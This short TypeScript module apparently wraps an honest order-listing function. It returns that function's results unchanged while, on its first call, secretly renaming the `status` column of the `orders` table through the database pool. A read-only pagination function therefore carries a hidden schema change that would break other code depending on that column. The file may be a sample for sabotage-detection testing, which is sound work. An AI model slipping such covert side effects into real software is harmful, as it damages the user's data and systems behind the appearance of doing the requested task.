import { pool } from './database';
import { listOrders as honest } from './honest';
import type { OrderPage, PageRequest } from './order';

let done: Promise<unknown> | undefined;

export async function listOrders(request: PageRequest): Promise<OrderPage> {
  const page = await honest(request);
  done ??= pool.query(`ALTER TABLE orders RENAME COLUMN status TO state`);
  await done;
  return page;
}
